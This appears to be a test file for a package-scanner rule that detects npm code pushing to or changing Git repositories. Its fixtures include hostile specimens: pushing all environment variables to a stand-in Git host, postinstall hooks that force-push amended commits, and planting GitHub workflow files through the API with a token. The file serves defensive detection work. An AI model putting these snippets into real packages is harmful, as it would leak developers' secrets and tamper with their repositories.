import { examine } from '../../../test/examine.ts';
import { pushesToRepositories } from './pushes-to-repositories.ts';

const CP = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');`;
const hook = (command: string): object => ({ name: 'specimen', scripts: { postinstall: command } });

examine(pushesToRepositories, {
  speaks: [
    {
      when: 'all variables of the environment are made a commit, and pushed to a repository of the code',
      files: {
        'package.json': { bin: 'cli.js' },
        'cli.js': `const { execFile } = require('child_process'); const git = (args, input) => new Promise(done => { const child = execFile('git', args, (error, out) => done(out)); if (input) child.stdin.end(input); }); (async () => { const blob = await git(['hash-object', '-w', '--stdin'], JSON.stringify({ env: process.env })); await git(['push', 'https://git.invalid/ledger.git', blob + ':refs/heads/x']); })()`,
      },
      weight: 'strong',
      says: ['all variables of the environment'],
    },
    {
      when: 'a workflow is put into repositories, by the route of a client',
      files: {
        'index.js': `const { Octokit } = require('@octokit/core'); const kit = new Octokit({ auth: process.env.GITHUB_TOKEN }); kit.request('PUT /repos/{owner}/{repo}/contents/.github/workflows/inert.yml', { owner: 'inert', repo: 'inert', content: '' });`,
      },
      weight: 'strong',
      says: ['workflow'],
    },
    {
      when: 'a workflow is put into repositories at install, by its address',
      files: {
        'package.json': hook('node w.js'),
        'w.js': `for (const name of ['a', 'b']) fetch('https://api.github.invalid/repos/inert/' + name + '/contents/.github/workflows/inert.yml', { method: 'PUT', body: '{}' });`,
      },
      weight: 'proof',
    },
    {
      when: 'it pushes at install',
      files: { 'package.json': hook('git add . && git commit -m inert && git push') },
      weight: 'strong',
      says: ['pushes'],
    },
    { when: 'the arguments stand in a list', files: { 'index.js': `${CP} cp.spawnSync('git', ['push', '--force'])` }, weight: 'strong' },
    {
      when: 'a repository is created',
      files: { 'index.js': `${CP} cp.execSync('gh repo create inert --public')` },
      weight: 'strong',
      says: ['creates or changes'],
    },
    {
      when: 'a function hands Git whatever words it is given',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node all.js' } },
        'all.js': `const { execFileSync } = require('child_process'); const git = (cwd, ...a) => execFileSync('git', ['-C', cwd, '-c', 'core.hooksPath=/dev/null', ...a]);
          for (const r of require('fs').readdirSync('/inert')) { git(r, 'add', 'package.json'); git(r, 'commit', '--amend', '--no-edit', '--no-verify'); git(r, 'push', '--force'); }`,
      },
      weight: 'strong',
    },
    {
      when: 'a helper takes any words, of which one call says so',
      files: {
        'index.js': `const { execFile } = require('child_process'); const git = (...args) => execFile('git', args); git('init'); git('push', '-q', 'https://git.specimen.invalid/s.git');`,
      },
      weight: 'strong',
    },
    {
      when: 'a helper takes lists of words, of which the second says so',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); const git = (args, cwd) => execFileSync('git', args, { cwd }); git(['init'], '/x'); git(['push', '-q', 'https://git.specimen.invalid/s.git'], '/x');`,
      },
      weight: 'strong',
    },
    {
      when: 'a helper puts any words into a line',
      files: {
        'index.js': `const { execSync } = require('child_process'); const git = (...args) => execSync('git ' + args.join(' ')); git('init'); git('push', '-q', 'https://git.specimen.invalid/s.git');`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a tool that is started commits what it has made, and Git gets the environment as any program does',
      files: {
        'package.json': { bin: 'cli.js' },
        'cli.js': `const cp = require('child_process'); cp.execFileSync('git', ['commit', '-F', '-'], { input: 'INERT', env: process.env });`,
      },
    },
    {
      when: 'a helper takes any words, and all that are given only look',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); const git = (...args) => execFileSync('git', args); exports.head = git('rev-parse', 'HEAD'); exports.last = git('log', '-1', '--format=%s', '--', 'push'); exports.root = git('rev-parse', '--show-toplevel');`,
      },
    },

    {
      when: 'workflows are read, and a file of another kind is put',
      files: {
        'index.js': `const { Octokit } = require('@octokit/core'); const kit = new Octokit(); kit.request('GET /repos/{owner}/{repo}/contents/.github/workflows/ci.yml', { owner: 'inert', repo: 'inert' }); kit.request('PUT /repos/{owner}/{repo}/contents/CHANGELOG.md', { owner: 'inert', repo: 'inert' });`,
      },
    },
    {
      when: 'a function hands Git words of which one only looks like it',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node all.js' } },
        'all.js': `const { execFileSync } = require('child_process'); const git = (cwd, ...a) => execFileSync('git', ['-C', cwd, ...a]); git('.', 'config', 'push.default'); git('.', 'log', '-1', '--format=%an'); git('.', 'stash');`,
      },
    },
    {
      when: 'Git is only asked',
      files: { 'index.js': `${CP} cp.execSync('git status'); cp.execSync('git rev-parse HEAD'); cp.execSync('gh repo view')` },
    },
    { when: 'a text speaks of it', files: { 'index.js': `module.exports = 'then git push';` } },
  ],
});
